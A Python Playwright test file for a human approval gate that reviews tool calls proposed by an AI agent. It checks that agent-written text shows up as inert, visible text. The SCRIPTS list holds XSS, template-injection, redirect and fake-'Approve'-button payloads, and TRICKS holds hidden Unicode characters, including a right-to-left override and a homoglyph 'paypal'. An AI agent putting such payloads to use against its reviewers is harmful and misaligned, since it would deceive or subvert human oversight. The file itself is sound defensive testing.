# SPDX-License-Identifier: Apache-2.0
"""What an agent may write into a page: nothing runs, is fetched, hides, or makes the page stand still.

How fast pages appear is measured and told (by the log; `-rP` shows it); what is held is a bound far above it.
"""

import asyncio
import logging
import re
from collections.abc import AsyncIterator, Callable

import pytest
from playwright.async_api import Browser, Page, expect

from gyges.case import State
from tests import patience
from tests.browser.conftest import Site, open_site
from tests.web.conftest import MAIL, PAY
from tests.web.desk import label

pytestmark = pytest.mark.slow
logger = logging.getLogger(__name__)
SCRIPTS = (
    "<script>window.pwned = 1</script>",
    "<img src=x onerror='window.pwned = 1'>",
    "<svg/onload=window.pwned=1>",
    "'\"><script src=//evil.example/x.js></script>",
    "javascript:window.pwned=1",
    "{{ 7 * 7 }}{% for x in (1,) %}{% endfor %}${7*7}",
    "</textarea></code></template><iframe srcdoc='<script>parent.pwned=1</script>'>",
    "<link rel=stylesheet href=//evil.example/x.css><style>@import '//evil.example/y.css'</style>",
    "<form action=//evil.example><button>Approve</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>",
    "http://evil.example/?leak=1",
    '" autofocus onfocus=window.pwned=1 x="',
    "<!--",
    "]]>",
    "&#x3c;script&#x3e;window.pwned=1&#x3c;/script&#x3e;",
)
TRICKS = {
    "\u202e": "U+202E", "\u2066": "U+2066", "\u200b": "U+200B", "\u00ad": "U+00AD",
    "\ufeff": "U+FEFF", "\x00": "U+0000", "\x1b": "U+001B", "\u2028": "U+2028", "\u3164": "U+3164",
    "\U000e0041": "U+E0041",
}  # fmt: skip
GENEROUS_MS = patience.MS


async def unharmed(page: Page, site: Site) -> None:
    """Nothing of the payloads runs: no script, no element of theirs, no other host (which `site` watches)."""
    assert await page.evaluate("typeof window.pwned") == "undefined"
    sources = await page.locator("script").evaluate_all("all => all.map(s => s.src)")
    assert sources
    assert all(source.startswith(f"{site.url}/static/") for source in sources)
    assert (
        await page.locator("iframe, base, object, embed, main img, main style, main link").count()
        == 0
    )
    outward = (
        "all => all.filter(e => ![location.origin].includes(new URL(e.href || e.action).origin))"
    )
    for there in await page.locator("a[href], form[action]").evaluate_all(
        f"all => ({outward})(all).map(e => e.outerHTML)"
    ):
        assert "localhost" in there, there


async def test_markup_is_text_wherever_an_agent_can_put_it(site: Site) -> None:
    """As value, as name, as purpose, as source and as quote; on every page where the case appears."""
    names = {f"k{n} {text}": text for n, text in enumerate(SCRIPTS)}
    odd = await site.propose({"tool": "send_mail", "arguments": names})
    everywhere = {
        "tool": "send_mail",
        "arguments": {"to": SCRIPTS[0], "text": "\n".join(SCRIPTS)},
        "purpose": " ".join(SCRIPTS)[:900],
        "context": [{"text": text, "source": text[:60]} for text in SCRIPTS[:4]],
        "episode": SCRIPTS[1],
    }
    case = await site.propose(everywhere)
    page = await site.page("rita")
    for path in ("/inbox", "/history", "/agents/bot", "/a/{id}/log", "/a/{id}/edit",
                 "/a/{id}/value?at=/text", "/history?q=%3Cscript%3E", f"/a/{odd['id']}", "/a/{id}"):  # fmt: skip
        await page.goto(site.url + path.format(id=case["id"]))
        await expect(page.get_by_role("heading", level=1)).to_be_visible()
        await unharmed(page, site)
    for summary in await page.locator("summary").all():
        await summary.click()
    await expect(page.get_by_text(SCRIPTS[0], exact=True).first).to_be_visible()
    await expect(page.get_by_role("button", name=re.compile("^Approve"))).to_have_count(1)
    await page.get_by_label("Why not").fill(SCRIPTS[1])
    await page.get_by_role("button", name="Deny", exact=True).click()
    await expect(page.get_by_text("Denied.", exact=True)).to_be_visible()
    await unharmed(page, site)


async def test_a_hostile_tool_name_is_text_too(site: Site) -> None:
    """A tool that nobody knows is denied; its name is shown and runs nothing."""
    case = await site.propose({"tool": SCRIPTS[1][:60], "arguments": {}})
    assert case["state"] == "denied"
    page = await site.page("rita", f"/a/{case['id']}")
    await unharmed(page, site)
    await page.goto(f"{site.url}/history")
    await unharmed(page, site)


async def test_what_does_not_show_is_shown(site: Site) -> None:
    """Every trick with characters becomes a mark with its number, and a sentence says what it does."""
    text = "".join(f"before{char}after " for char in TRICKS) + "p\u0430ypal"
    case = await site.propose(
        {"tool": "send_mail", "arguments": {"to": "a@b.example", "text": text}}
    )
    page = await site.page("rita", f"/a/{case['id']}")
    row = page.get_by_role("row").filter(has=page.get_by_role("rowheader", name="text", exact=True))
    shown = await row.inner_text()
    for char, code in TRICKS.items():
        assert code in shown, code
        assert char not in shown, code
    assert await row.locator(".notes").count() > 0
    await page.goto(f"{site.url}/inbox")
    await expect(page.locator(f"#{case['id']}")).to_contain_text("needs a second look")


async def test_reversed_text_stays_in_its_place(site: Site) -> None:
    """A right-to-left override in a name cannot move what stands after it."""
    case = await site.propose(
        {"tool": "send_mail", "arguments": {"to": "\u202emoc.elpmaxe@a", "text": "x"}}
    )
    page = await site.page("rita", f"/a/{case['id']}")
    where = """() => { const row = [...document.querySelectorAll(".args th")].find(t => t.innerText === "to");
        const code = row.parentElement.querySelector("td code"); const own = getComputedStyle(code);
        return [own.direction, code.innerText]; }"""
    assert await page.evaluate(where) == ["ltr", "U+202Emoc.elpmaxe@a"]


async def test_an_argument_of_a_megabyte(
    site: Site, record_property: Callable[[str, object], None]
) -> None:
    """It is folded with its length and digest, the page stays small, all of it can be read, and it can be answered."""
    text = ("0123456789abcde\n" * 64 * 1024)[: 1 << 20]
    case = await site.propose(
        {"tool": "send_mail", "arguments": {"to": "ada@example.org", "text": text}}
    )
    page = await site.page("rita")
    answer = await page.goto(f"{site.url}/a/{case['id']}")
    assert answer
    assert len(await answer.body()) < 200_000
    await expect(page.get_by_text("1,048,576").first).to_be_visible()
    paint = await painted(page)
    record_property("first_paint_ms", paint)
    logger.warning("first paint with an argument of 1 MB: %.0f ms", paint)
    assert paint < GENEROUS_MS
    await page.get_by_role("link", name="open all of it").click()
    await page.wait_for_url("**/value?**")
    await expect(page.get_by_role("main")).to_contain_text("0123456789abcde")
    await page.go_back()
    await page.get_by_role("button", name=re.compile("^Approve")).click()
    await expect(page.get_by_text("Approved.", exact=True)).to_be_visible()
    assert await site.state(case) is State.GRANTED


@pytest.fixture
async def busy(tmp_path_factory: pytest.TempPathFactory, chromium: Browser) -> AsyncIterator[Site]:
    """A gate of its own where 500 cases wait, 499 of low risk and one of high."""
    folder = tmp_path_factory.mktemp("busy") / "data"
    async with open_site(folder, chromium) as site:
        await site.propose(PAY)
        for first in range(0, 499, 50):
            await asyncio.gather(*(label(site, n) for n in range(first, min(first + 50, 499))))
        yield site


async def test_half_a_thousand_wait(
    busy: Site, record_property: Callable[[str, object], None]
) -> None:
    """The first page of them is there at once, the riskiest first, and the rest is one link away."""
    site = busy
    page = await site.page("alice", "/inbox")
    first = page.locator(".item").first
    await expect(first).to_contain_text("pay")
    paint = await painted(page)
    record_property("first_paint_ms", paint)
    logger.warning("first paint with 500 waiting: %.0f ms", paint)
    assert paint < GENEROUS_MS
    assert await page.locator(".item").count() >= 100
    await page.get_by_role("link", name=re.compile("^More")).click()
    await page.wait_for_url("**/inbox?after=**")
    await expect(page.locator(".item").first).to_contain_text("label")
    case = await site.propose(MAIL)
    await expect(page.locator(".item")).not_to_have_count(0)
    await page.goto(f"{site.url}/inbox?q=send_mail")
    await expect(page.locator(".item")).to_have_count(1)
    await expect(page.locator(f"#{case['id']}")).to_be_visible()


async def painted(page: Page) -> float:
    """When the page first showed something, in ms since it was asked for."""
    found: float = await page.evaluate(
        """() => new Promise((done) => { const seen = (list) => { const one = list.getEntriesByName(
             "first-contentful-paint")[0]; if (one) done(one.startTime); };
           seen(performance); new PerformanceObserver(seen).observe({ type: "paint", buffered: true }); })"""
    )
    return found
